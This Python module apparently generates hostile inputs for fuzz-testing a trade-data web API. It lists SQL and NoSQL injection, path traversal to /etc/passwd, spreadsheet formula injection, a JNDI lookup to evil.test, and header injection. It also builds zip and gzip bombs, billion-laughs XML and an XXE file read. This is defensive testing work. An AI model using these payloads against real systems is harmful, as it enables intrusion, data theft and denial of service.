"""What arrives on the internet, by the thousand: values, files and requests made to do harm."""

import gzip
import io
import json
import zipfile
from collections.abc import Callable
from random import Random
from typing import Any
from urllib.parse import quote

TEXTS = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "' OR '1'='1",
    "'; DROP TABLE documents; --",
    "' UNION SELECT body FROM documents --",
    'x" OR "1"="1',
    "SELECT * FROM c WHERE 1=1",
    "* FROM c --",
    "@partition",
    "c.id OR IS_DEFINED(c.userId)",
    "STARTSWITH(c.id, '')",
    "../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f",
    "file:///etc/passwd",
    "=1+1",
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.test")',
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.test/a}",
    "{{7*7}}",
    "%s%s%s%n",
    "__proto__",
    "null",
    "\u202e\u200b\ufeff",
    "e\u0301" * 3000,
    "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "\ud800",
    "Ａｐｐｌｅ",
    "a" * 70_000,
    "9" * 400,
    "-1",
    "1e999",
    "NaN",
    "Infinity",
    "0x10",
    "１２",
    "1_000",
    "0000-00-00",
    "9999-12-31",
    "2020-02-30",
    "-0001-01-01",
    "2020-01-01T00:00:00+99:99",
    "*",
    'W/"*"',
    "a\r\nSet-Cookie: x=1",
]
# Not what a JSON library would write.
LITERALS = [
    "NaN",
    "-Infinity",
    "1e400",
    "-0",
    "9" * 400,
    "0." + "1" * 400,
    "123456789012345678901234567890",
    "true",
    "null",
    "[]",
    "{}",
    '{"$ne": null}',
    "[[]]",
    "[" * 500 + "]" * 500,
    '{"a":' * 500 + "1" + "}" * 500,
    "[" * 20_000,
    '"\\ud800"',
    '"\\u0000"',
    '{"a":1,"a":2}',
    "'a'",
    "// a",
]


def text(random: Random) -> str:
    """Return a hostile text: a known one, two joined, or random characters."""
    kind = random.randrange(4)
    if kind == 0:
        return "".join(chr(random.randrange(0x110000)) for _ in range(random.randrange(40)))
    if kind == 1:
        return random.choice(TEXTS)[:500] + random.choice(TEXTS)[:500]
    return random.choice(TEXTS)


def json_value(random: Random) -> str:
    """Return a hostile JSON value as it is sent."""
    return random.choice(LITERALS) if random.random() < 0.4 else json.dumps(text(random))


def in_address(random: Random) -> str:
    """Return a hostile text for a path or query, percent-encoded one way or another."""
    if random.random() < 0.1:
        return random.choice(["%ff%fe", "%00", "%C0%AE%C0%AE", "%", "%zz", "%25%32%65", "..", "."])
    return quote(text(random)[:2000].encode("utf-8", "surrogatepass"), safe="")


def in_header(random: Random) -> bytes:
    """Return a hostile header value, as far as a server lets one through."""
    value = text(random)[:8000].encode("utf-8", "replace")
    return value.translate(None, b"\r\n\x00")


def body(random: Random, example: dict[str, Any] | None) -> bytes:
    """Return a body: the example with something replaced, or garbage."""
    kind = random.randrange(10)
    if kind == 0 or example is None:
        return json_value(random).encode("utf-8", "surrogatepass")
    if kind == 1:
        return random.randbytes(random.randrange(300))
    fields = {name: json.dumps(value) for name, value in example.items()}
    for _ in range(random.randint(1, 2)):
        fields[random.choice([*fields, "id", "userId", "owner", "__proto__"])] = json_value(random)
    joined = ", ".join(f"{json.dumps(name)}: {value}" for name, value in fields.items())
    return ("{" + joined + "}").encode("utf-8", "surrogatepass")


def _zip_bomb(_: Random) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as bomb:
        for number in range(20):
            bomb.writestr(f"../../{number}.csv", b"0" * 5_000_000)
    return buffer.getvalue()


def _csv(random: Random) -> bytes:
    names = ["trade_date", "kind", "symbol", "quantity", "price", "currency", "note"]
    usual = ["2020-09-15", "buy", "AAPL", "1", "115.54", "USD", ""]
    lines = [",".join(names)]
    for _ in range(random.randrange(20)):
        row = list(usual)
        row[random.randrange(len(row))] = '"' + text(random)[:2000].replace('"', '""') + '"'
        lines.append(",".join(row))
    return "\n".join(lines).encode(random.choice(["utf-8", "utf-16"]), "replace")


_LAUGHS = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 12))
FILES: list[Callable[[Random], bytes]] = [
    _zip_bomb,
    _csv,
    _csv,
    _csv,
    _csv,
    lambda _: gzip.compress(b"0" * 20_000_000),
    lambda _: (
        f'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a0 "ha">{_LAUGHS}]>'
        "<FlexQueryResponse>&a11;</FlexQueryResponse>"
    ).encode(),
    lambda _: (
        b'<!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]>'
        b"<FlexQueryResponse>&f;</FlexQueryResponse>"
    ),
    lambda _: b"<a>" * 50_000,
    lambda _: b"[" * 100_000,
    lambda _: b'{"activities":' + b"[" * 5_000,
    lambda _: b"," * 200_000,
    lambda _: b'"' * 99_999,
    lambda _: b"trade_date,kind\n" + b"\x00" * 50_000,
    lambda _: b"\xff\xfe" + b"\x00\xd8" * 10_000,
    lambda random: random.randbytes(20_000),
    lambda _: b"",
]


def upload(random: Random) -> tuple[bytes, bytes]:
    """Return the content type and body of a hostile file upload."""
    boundary = random.choice([b"x", b"-" * 70, b"a b"])
    filename = text(random)[:300].encode("utf-8", "replace").translate(None, b'\r\n"')
    head = b'Content-Disposition: form-data; name="file"; filename="' + filename + b'"'
    parts = [head + b"\r\n\r\n" + random.choice(FILES)(random)]
    for name in ("broker", "mapping"):
        if random.random() < 0.3:
            value = text(random)[:2000].encode("utf-8", "replace")
            parts.append(f'Content-Disposition: form-data; name="{name}"\r\n\r\n'.encode() + value)
    body = b"".join(b"--" + boundary + b"\r\n" + part + b"\r\n" for part in parts)
    return b"multipart/form-data; boundary=" + boundary, body + b"--" + boundary + b"--\r\n"
